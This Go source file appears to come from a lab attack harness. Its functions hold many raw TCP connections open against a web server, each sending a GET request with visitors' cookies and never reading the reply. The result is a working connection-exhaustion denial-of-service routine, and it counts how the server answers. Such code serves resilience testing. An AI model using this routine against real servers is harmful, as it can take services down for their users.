package main

import (
	"context"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// holding is how long a connection is left alone before another one takes its place. The lab may have given
// it up by then, which nobody notices who does not read.
const holding = 10 * time.Second

// connect opens a bare connection from the attacker's address. It takes little before the sender has to wait.
func (a *attacker) connect(ctx context.Context) (*net.TCPConn, error) {
	conn, err := dialer(attackerAddress).DialContext(ctx, "tcp", strings.TrimPrefix(a.base, "http://"))
	if err != nil {
		return nil, err
	}
	tcp := conn.(*net.TCPConn)
	return tcp, tcp.SetReadBuffer(4096)
}

// header is the head of a request, without the empty line at its end.
func (a *attacker) header(line, cookie string) string {
	host := strings.TrimPrefix(a.base, "http://")
	return line + " HTTP/1.1\r\nHost: " + host + "\r\nCookie: " + cookie + "\r\n"
}

// holdUnread keeps as many connections as the attack has until ctx ends. Each asks for the path with a cookie
// of the visitors, and does not read. It says how they were answered, as the first bytes tell.
func (a *attacker) holdUnread(ctx context.Context, path string, visitors []*visitor) {
	var asked atomic.Int64
	var all sync.WaitGroup
	for i := range a.n {
		request := a.header("GET "+path, visitors[i%len(visitors)].cookies()) + "\r\n"
		all.Go(func() {
			for ctx.Err() == nil {
				asked.Add(1)
				a.hold(ctx, request)
			}
		})
	}
	all.Wait()
	a.say("%d connections at a time asked for %s and did not read, %d in all", a.n, path, asked.Load())
}

// hold is one of them.
func (a *attacker) hold(ctx context.Context, request string) {
	conn, err := a.connect(ctx)
	if err != nil {
		a.noted(ctx, "connection", answer{}, err)
		return
	}
	defer conn.Close()
	_ = conn.SetLinger(0) // nobody waits for the rest
	if _, err := io.WriteString(conn, request); err != nil {
		a.noted(ctx, "connection", answer{}, err)
		return
	}
	wait(ctx, holding)
	a.count("unread " + firstStatus(conn))
}

// firstStatus is what an answer begins with that was not read until now.
func firstStatus(conn net.Conn) string {
	_ = conn.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
	start := make([]byte, len("HTTP/1.1 200"))
	if _, err := io.ReadFull(conn, start); err != nil {
		if errors.Is(err, io.EOF) {
			return "closed"
		}
		return errorKind(err)
	}
	return strings.TrimPrefix(string(start), "HTTP/1.1 ")
}
